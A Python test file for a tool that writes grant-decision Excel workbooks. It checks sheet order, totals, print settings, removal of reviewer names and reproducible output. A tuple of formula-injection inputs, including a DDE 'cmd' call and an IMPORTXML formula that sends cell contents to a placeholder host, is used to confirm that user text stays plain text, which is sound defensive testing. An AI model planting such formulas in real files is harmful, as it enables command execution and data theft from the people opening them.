"""The decision workbook as a file: its sheets, words and formats, texts that stay texts, bytes that repeat."""

import hashlib
import io
import os
import subprocess
import sys
import zipfile
from collections.abc import Iterator
from datetime import timedelta
from functools import cache
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl import Workbook
from openpyxl.utils import range_boundaries

from decisions.figures import complete
from decisions.spec import SPECS
from decisions.tables import Tables, hash_of, make, pseudonymised
from decisions.values import cell_text
from locales import PSEUDO, msg, render
from tests.support.decided import MADE_AT, decided
from tests.workbooks.decision_sheets_read import layout, lines, read, sheet_of
from workbooks.decision_book import wrapped_lines
from workbooks.decision_plan import PLAIN_HEAD
from workbooks.decision_write import decision_workbook

TABLES = decided(30)
SHEETS = (
    "list",
    "applications",
    "ranking",
    "scores",
    "costs",
    "facts",
    "comparison",
    "overrides",
    "eligibility",
    "check",
)
INJECTIONS = (
    "=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1+1", "\r=1+1", "=cmd|' /C calc'!A0", '=HYPERLINK("http://x","y")',
    "{=1+1}", "=IMPORTXML(CONCAT(\"http://x?v=\", CONCATENATE(A2:E2)), \"//a/a10\")", "http://example.org/", "00123",
    "1e9", "<r><t>x</t></r>", "<r></r>", "]]><x>&amp;", "\x00\x01\x0b\x1f", "\ud800 \uffff", "'=1", "%0A=1", "TRUE", "#REF!",
    " leading and trailing ", "line\r\nline\rline", "😀" * 3, "_x0041_", "a*b?c~d",
)  # fmt: skip


@cache
def written(lang: str, plain: bool = False) -> bytes:
    return decision_workbook(TABLES, lang, plain=plain)


@cache
def book_of(lang: str, plain: bool = False, values: bool = True) -> Workbook:
    return read(written(lang, plain), values=values)


def cells(book: Workbook) -> Iterator[Any]:
    for sheet in book:
        for row in sheet.iter_rows():
            yield from row


def with_text(tables: Tables, text: str) -> Tables:
    """``tables`` with ``text`` in every text that people write."""
    free = {
        "applications": ("applicant", "business_id", "project", "reasons"),
        "scores": ("reason",),
        "costs": ("comment",),
        "eligibility": ("reason", "by"),
    }
    rows = {
        name: [{**row, **dict.fromkeys(free.get(name, ()), text)} for row in tables[name]] for name in SPECS
    }  # fmt: skip
    return complete(make(rows, tables.private))


@pytest.mark.parametrize("lang", ["fi", "sv", "en", PSEUDO])
@pytest.mark.parametrize("plain", [False, True])
def test_workbook_has_its_sheets_in_their_order(lang: str, plain: bool) -> None:
    places = layout(TABLES, lang, plain=plain)
    assert tuple(places) == SHEETS
    names = book_of(lang, plain).sheetnames
    assert names == [place.sheet for place in places.values()]
    assert len({name.casefold() for name in names}) == len(SHEETS)


def test_list_shows_approved_first_then_by_rank_then_without_rank() -> None:
    shown = lines(book_of("en"), layout(TABLES, "en")["list"])
    ranks = {row["case_number"]: row["rank"] for row in TABLES["ranking"]}
    rows = sorted(
        TABLES["applications"],
        key=lambda row: (row["status"] != "approved", ranks.get(row["case_number"]) or 1_000, row["case_number"]),
    )
    words = {"dismissed": "dismissed without examination"}
    assert shown == [
        {
            "rank": ranks.get(row["case_number"]) or "no rank",
            "case_number": row["case_number"],
            "applicant": row["applicant"],
            "status": words.get(row["status"], row["status"]),
            "applied": row["applied"],
            "granted": row["granted"],
            "project": row["project"],
            "reasons": row["reasons"],
        }
        for row in rows
    ]
    assert {row["status"] for row in rows} >= {"approved", "rejected", "dismissed", "withdrawn"}


def test_first_page_sums_every_way_and_says_that_they_agree() -> None:
    place = layout(TABLES, "en")["list"]
    sheet = sheet_of(book_of("en"), place)
    rows = TABLES["applications"]
    in_all = (len(rows), sum(row["applied"] for row in rows), sum(row["granted"] for row in rows))
    top = [
        [cell.value for cell in row if cell.value is not None] for row in sheet.iter_rows(max_row=place.first - 1)
    ]  # fmt: skip
    assert [line[1:] for line in top if line and line[0] == "Total"] == [list(in_all)] * 3
    by_status: dict[str, tuple[int, int, int]] = {}
    for row in rows:
        n, applied, granted = by_status.get(row["status"], (0, 0, 0))
        by_status[row["status"]] = (n + 1, applied + row["applied"], granted + row["granted"])
    for status, sums in by_status.items():
        word = {"dismissed": "dismissed without examination"}.get(status, status)
        assert [word, *sums] in top
    flat = [value for line in top for value in line]
    assert "The sums agree" in flat
    assert 10_000_000 - in_all[2] in flat
    assert hash_of(TABLES)[:16] in flat


def test_defined_names_lead_to_the_sums() -> None:
    book = book_of("fi")
    rows = TABLES["applications"]
    found = {}
    for name in ("Appropriation", "Applied", "Granted", "Remaining"):
        ((sheet, cell),) = book.defined_names[name].destinations
        found[name] = book[sheet][cell.replace("$", "")].value
    granted = sum(row["granted"] for row in rows)
    assert found == {
        "Appropriation": 10_000_000,
        "Applied": sum(row["applied"] for row in rows),
        "Granted": granted,
        "Remaining": 10_000_000 - granted,
    }


def test_list_is_set_up_for_print_and_screen() -> None:
    for lang in ("fi", "sv", "en"):
        book = book_of(lang)
        for place in layout(TABLES, lang).values():
            sheet, head = sheet_of(book, place), place.plan.head + 1
            assert str(sheet.print_title_rows).replace("$", "") == f"{head}:{head}"
            assert sheet.freeze_panes is not None
            assert range_boundaries(sheet.auto_filter.ref) == (1, head, len(place.plan.columns), place.last + 1)
            assert (sheet.page_setup.paperSize, sheet.page_setup.fitToHeight) == (9, 0)
            assert sheet.page_setup.orientation == "landscape"
            assert sheet.oddFooter is not None
            assert "&P" in str(sheet.oddFooter.right)
        place = layout(TABLES, lang)["list"]
        assert [brk.id for brk in sheet_of(book, place).row_breaks.brk] == [place.plan.head]


def test_scores_show_names_of_reviewers_only_in_the_full_variant() -> None:
    hidden = pseudonymised(TABLES)
    names = {one.name for one in TABLES.private.values()}
    full, without = book_of("fi"), read(decision_workbook(hidden, "fi"))
    texts = [{cell.value for cell in cells(book) if isinstance(cell.value, str)} for book in (full, without)]
    assert names <= texts[0]
    assert not names & texts[1]
    shown = lines(without, layout(hidden, "fi")["scores"])
    assert {row["reviewer"] for row in shown} > set(TABLES.private)
    assert hash_of(hidden) == hash_of(TABLES)


def test_names_are_nowhere_in_the_pseudonymised_file() -> None:
    data = decision_workbook(pseudonymised(TABLES), "fi")
    with zipfile.ZipFile(io.BytesIO(data)) as parts:
        written = b"".join(parts.read(name) for name in parts.namelist()).decode()
    # The nonce of the first is all zeros, as the hash of the proposal is.
    secrets = [word for one in TABLES.private.values() for word in (one.name, one.nonce) if word.strip("0")]
    assert [word for word in secrets if word in written] == []


def test_plain_variant_is_tables_alone() -> None:
    full, plain = (book_of("en", plain, False) for plain in (False, True))
    places = layout(TABLES, "en", plain=True)
    for place in places.values():
        sheet = sheet_of(plain, place)
        heading = [render(column.heading, "en") for column in place.plan.columns]
        assert [cell.value for cell in sheet[PLAIN_HEAD + 1]] == heading
        assert {cell.data_type for row in sheet.iter_rows() for cell in row} <= {"s", "n"}
        assert {cell.style_id for row in sheet.iter_rows() for cell in row} == {0}
        assert (sheet.freeze_panes, sheet.auto_filter.ref, len(sheet.conditional_formatting)) == (None, None, 0)
    assert len(list(cells(plain))) < len(list(cells(full)))
    assert list(plain.defined_names) == []


def test_plain_variant_has_the_values_of_the_full_one() -> None:
    full, plain = (book_of("sv", plain) for plain in (False, True))
    wide, narrow = layout(TABLES, "sv"), layout(TABLES, "sv", plain=True)
    for name in ("applications", "ranking", "scores", "costs", "overrides"):
        one, other = lines(full, wide[name]), lines(plain, narrow[name])
        for row in one + other:
            row.pop("arrived_at", None)
        assert one == other


def test_properties_have_the_moment_of_the_decision() -> None:
    properties = book_of("sv").properties
    assert properties.title == "Beslutslista: Understöd för främjande av digitaliseringen i kommunerna 2020"
    assert properties.creator == "Finansministeriet"
    assert properties.created == (MADE_AT + timedelta(hours=3)).replace(tzinfo=None)


@pytest.mark.parametrize("plain", [False, True])
def test_texts_stay_texts(plain: bool) -> None:
    few = decided(len(INJECTIONS))
    names = ("applicant", "business_id", "project", "reasons")
    rows = [
        {**row, **dict.fromkeys(names, text)} for row, text in zip(few["applications"], INJECTIONS, strict=True)
    ]  # fmt: skip
    tables = complete(make({name: few[name] for name in SPECS} | {"applications": rows}))
    place = layout(tables, "fi", plain=plain)["applications"]
    sheet = sheet_of(read(decision_workbook(tables, "fi", plain=plain), values=False), place)
    for at, text in enumerate(INJECTIONS, start=place.first):
        for name in names:
            cell = sheet[place.cell(name, at)]
            shown = cell_text(text).replace("_x0041_", "_x005F_x0041_")
            assert (cell.data_type, cell.value, cell.hyperlink) == ("s", shown, None)


@settings(max_examples=10, deadline=None)
@given(st.text(max_size=60))
def test_any_text_leaves_a_readable_file(text: str) -> None:
    tables = with_text(decided(1), text)
    shown = lines(read(decision_workbook(tables, "sv")), layout(tables, "sv")["applications"])
    assert (shown[0]["reasons"] or "").replace("_x005F_", "_") == cell_text(text).replace("_x005F_", "_")


def test_row_is_as_high_as_its_longest_text() -> None:
    tables = with_text(decided(2), "sana " * 60)
    place = layout(tables, "fi")["list"]
    row = sheet_of(read(decision_workbook(tables, "fi")), place).row_dimensions[place.first + 1]
    narrowest = min(column.width for column in place.plan.columns if column.id in ("applicant", "project", "reasons"))
    assert row.height == 12 * wrapped_lines("sana " * 60, narrowest) + 3


def test_workbook_without_applications_is_whole() -> None:
    tables = complete(make({"facts": TABLES["facts"]}))
    for plain in (False, True):
        book = read(decision_workbook(tables, "fi", plain=plain))
        assert len(book.sheetnames) == len(SHEETS)
    assert lines(book, layout(tables, "fi", plain=True)["applications"])[0]["case_number"] is None


def test_order_of_the_rows_given_does_not_matter() -> None:
    shuffled = make({name: TABLES[name][::-1] for name in SPECS}, dict(reversed(list(TABLES.private.items()))))
    assert decision_workbook(complete(shuffled), "fi") == written("fi")


def test_bytes_are_the_same_in_another_process_with_another_clock_and_language() -> None:
    program = (
        "import hashlib;from tests.support.decided import decided;"
        "from workbooks.decision_write import decision_workbook as w;t=decided(30);"
        "print(*(hashlib.sha256(w(t,'fi',plain=p)).hexdigest() for p in (False, True)))"
    )
    here = [hashlib.sha256(written("fi", plain)).hexdigest() for plain in (False, True)]
    for zone, lang, seed in (("Pacific/Auckland", "sv_FI.UTF-8", "1"), ("America/St_Johns", "C", "4711")):
        environment = {**os.environ, "TZ": zone, "LANG": lang, "LC_ALL": lang, "PYTHONHASHSEED": seed}
        run = subprocess.run(
            [sys.executable, "-c", program], env=environment, capture_output=True, text=True, check=True, timeout=120
        )
        assert run.stdout.split() == here


def test_pseudo_locale_leaves_no_undecorated_text_of_ours() -> None:
    """On the sheets of the applications, the ranking and the scores; what people wrote stays as it is."""
    book, places = book_of(PSEUDO), layout(TABLES, PSEUDO)
    own = {value for name in SPECS for row in TABLES[name] for value in row.values() if isinstance(value, str)}
    own |= {one.name for one in TABLES.private.values()}
    own |= {hash_of(TABLES)[:16]}
    for name in ("list", "applications", "ranking", "scores"):
        texts = {
            cell.value
            for row in sheet_of(book, places[name]).iter_rows()
            for cell in row
            if isinstance(cell.value, str)
        }
        ours = [text for text in texts - own if text.strip() and "⟦" not in text and " 2020 at " not in text]
        assert ours == []


@given(st.text("ab \n", max_size=80), st.floats(2, 60))
def test_wrapped_lines_never_hold_more_than_fits(text: str, width: float) -> None:
    room = max(int((width - 1) * 1.1), 1)
    assert wrapped_lines(text, width) >= text.count("\n") + 1
    assert wrapped_lines(text, width) * room >= sum(len(word) for word in text.split())
    assert wrapped_lines(text, width) <= sum(len(part) // 1 + 1 for part in text.split("\n"))


def test_missing_score_is_said_and_never_zero() -> None:
    tables = decided(14)
    rows = {name: tables[name] for name in SPECS} | {
        "scores": [row for row in tables["scores"] if row["case_number"] != "ESIM/2020/001"]
    }
    changed = complete(make(rows, tables.private))
    shown = {
        row["case_number"]: row
        for row in lines(read(decision_workbook(changed, "en")), layout(changed, "en")["ranking"])
    }
    first = shown["ESIM/2020/001"]
    assert [first[name] for name in ("rank", "score", "mean", "median", "spread", "reviews")] == [
        render(msg("no rank"), "en"), "not scored", "not scored", "not scored", None, 0,
    ]  # fmt: skip
